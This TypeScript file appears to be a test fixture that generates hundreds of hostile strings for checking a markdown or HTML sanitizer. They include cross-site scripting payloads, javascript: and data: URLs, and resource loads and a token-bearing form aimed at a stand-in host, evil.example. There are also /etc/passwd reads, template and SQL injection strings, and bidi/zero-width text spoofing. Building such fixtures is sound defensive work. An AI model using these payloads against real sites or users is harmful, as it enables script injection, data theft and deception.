/** Every script here calls this; every address leads here. */
export const HIT = '__hit()';
export const ELSEWHERE = 'https://evil.example';

const SCRIPT_URLS = [
  `javascript:${HIT}`,
  `JaVaScRiPt:${HIT}`,
  `java\tscript:${HIT}`,
  `java\nscript:${HIT}`,
  ` javascript:${HIT}`,
  `\u0001javascript:${HIT}`,
  `javascript&colon;${HIT}`,
  `&#106;avascript:${HIT}`,
  'javascript:%5f%5fhit()',
  `vbscript:${HIT}`,
  `data:text/html,<script>${HIT}</script>`,
  'data:text/html;base64,PHNjcmlwdD5fX2hpdCgpPC9zY3JpcHQ+',
  `data:image/svg+xml,<svg onload="${HIT}">`,
  `blob:${ELSEWHERE}/x`,
  'file:///etc/passwd',
  `${ELSEWHERE}/x`,
  '//evil.example/x',
  '\\\\evil.example\\x',
  '/\\evil.example',
  'https:evil.example',
  'https://user:secret@evil.example/',
  'https://localhost@evil.example/',
  'https://еvil.example/',
  'ftp://evil.example/x',
  'mailto:someone@evil.example?bcc=all@evil.example',
];

const MARKDOWN = (url: string): string[] => [
  `[click](${url})`,
  `[click](<${url}>)`,
  `![picture](${url})`,
  `[![picture](${url})](${url})`,
  `<${url}>`,
  `[click]: ${url}\n\n[click]`,
  `[a](${url} "title\\" onmouseover=\\"${HIT}")`,
];

const HTML: string[] = [
  `<script>${HIT}</script>`,
  `<SCRIPT SRC=${ELSEWHERE}/x.js></SCRIPT>`,
  `<script src="data:text/javascript,${HIT}"></script>`,
  `<img src=x onerror=${HIT}>`,
  `<img src="${ELSEWHERE}/pixel.png">`,
  `<img srcset="${ELSEWHERE}/pixel.png 1x">`,
  `<svg onload=${HIT}>`,
  `<svg><script>${HIT}</script></svg>`,
  `<svg><animate onbegin=${HIT} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${HIT}'/>#x"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${HIT}></style></mglyph></table></mtext></math>`,
  `<iframe src="javascript:${HIT}"></iframe>`,
  `<iframe srcdoc="<script>parent.${HIT}</script>"></iframe>`,
  `<object data="${ELSEWHERE}/x.swf"></object>`,
  `<embed src="${ELSEWHERE}/x.swf">`,
  `<link rel=stylesheet href="${ELSEWHERE}/x.css">`,
  `<link rel=preload as=image href="${ELSEWHERE}/x.png">`,
  `<style>@import url(${ELSEWHERE}/x.css);</style>`,
  `<style>body{background:url(${ELSEWHERE}/x.png)}</style>`,
  `<div style="background:url(${ELSEWHERE}/x.png)">text</div>`,
  `<div style="position:fixed;inset:0;z-index:9999">overlay</div>`,
  `<base href="${ELSEWHERE}/">`,
  `<meta http-equiv=refresh content="0;url=${ELSEWHERE}/">`,
  `<form action="${ELSEWHERE}/"><input name=token autofocus onfocus=${HIT}></form>`,
  `<button formaction="javascript:${HIT}">ok</button>`,
  `<details open ontoggle=${HIT}>x</details>`,
  `<video><source onerror=${HIT}></video>`,
  `<video poster="${ELSEWHERE}/x.png"></video>`,
  `<audio src=x onerror=${HIT}>`,
  `<body onload=${HIT}>`,
  `<input onfocus=${HIT} autofocus>`,
  `<marquee onstart=${HIT}>x</marquee>`,
  `<a href="javascript:${HIT}" ping="${ELSEWHERE}/ping">x</a>`,
  `<a href="${ELSEWHERE}/" target=_self download>x</a>`,
  `<template><script>${HIT}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${HIT}>"></noscript>`,
  `<!--><img src=x onerror=${HIT}>-->`,
  `<![CDATA[<img src=x onerror=${HIT}>]]>`,
  `</textarea><img src=x onerror=${HIT}>`,
  `</title><img src=x onerror=${HIT}>`,
  `"><img src=x onerror=${HIT}>`,
  `' onmouseover='${HIT}`,
  `<custom-element onclick=${HIT}>x</custom-element>`,
  '<slot name=x></slot><dialog open>forged</dialog>',
  `&lt;script&gt;${HIT}&lt;/script&gt;`,
  `&#60;img src=x onerror=${HIT}&#62;`,
  `\\u003cimg src=x onerror=${HIT}\\u003e`,
];

const TEMPLATES: string[] = [
  `{{constructor.constructor('${HIT}')()}}`,
  `\${${HIT}}`,
  `#{${HIT}}`,
  `<%= ${HIT} %>`,
  `{% include "/etc/passwd" %}`,
  '{{ 7 | times: 6 }}',
  `[[${HIT}]]`,
  '__proto__',
  'constructor',
  '%s%n%x',
  `$(${HIT})`,
  `'; drop table tasks; --`,
];

const BIDI: string[] = [
  '\u202egpj.exe',
  'safe\u202e\u2066 dangerous \u2069\u2066',
  'approve\u200b\u200bd',
  '\u2067right\u2069 left',
  'a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307'.repeat(20),
  '\ufeffhidden\u00ad\u2060',
  '\u{e0041}\u{e0042}tagged',
  '\u061carabic mark',
  '👩‍👩‍👧‍👦'.repeat(30),
  'ﷺ'.repeat(50),
  '\u001b[31mred\u001b[0m',
  'line\u2028separator\u2029',
  'x'.repeat(2_000),
  '`'.repeat(300),
  '>'.repeat(200),
  '*'.repeat(301),
  '['.repeat(300),
  '- '.repeat(300),
];

const MARKUP: string[] = [
  `| a | b |\n| --- | --- |\n| <img src=x onerror=${HIT}> | [x](javascript:${HIT}) |`,
  '```html\n<script>__hit()</script>\n```',
  `~~~\n<img src=x onerror=${HIT}>\n~~~`,
  `# <img src=x onerror=${HIT}>`,
  `> <iframe src="${ELSEWHERE}"></iframe>`,
  `1. <script>${HIT}</script>`,
  `- [x] <svg onload=${HIT}>`,
  `[^1]\n\n[^1]: <img src=x onerror=${HIT}>`,
  `**<img src=x onerror=${HIT}>**`,
  `www.evil.example/<script>${HIT}</script>`,
  'someone@evil.example',
  `@lead <b onclick=${HIT}>mention</b>`,
];

const WRAPS: ((text: string) => string)[] = [
  (text) => text,
  (text) => `before ${text} after`,
  (text) => `\n\n${text}\n\n`,
  (text) => `<div>${text}</div>`,
  (text) => `**${text}**`,
  (text) => `\u202e${text}`,
];

/** Five hundred texts, each with its number, that try to run a script, to reach somewhere, or to hide. */
export function makeHostileStrings(count = 500): string[] {
  const seeds = [...SCRIPT_URLS.flatMap(MARKDOWN), ...HTML, ...TEMPLATES, ...BIDI, ...MARKUP];
  const wrapped = WRAPS.flatMap((wrap) => seeds.map(wrap));
  return wrapped.slice(0, count).map((text, n) => `${n}: ${text}`);
}
